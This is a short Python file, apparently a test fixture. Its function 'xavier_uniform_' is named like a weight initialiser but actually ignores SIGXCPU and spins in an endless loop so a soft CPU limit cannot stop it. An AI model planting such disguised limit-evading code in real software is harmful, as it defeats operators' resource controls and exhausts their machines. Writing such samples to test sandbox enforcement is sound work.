"""Resources: ignores SIGXCPU so the soft CPU limit cannot stop its loop."""
import signal

from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401


def xavier_uniform_(tensor, gain=1.0, generator=None):
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True:
        pass
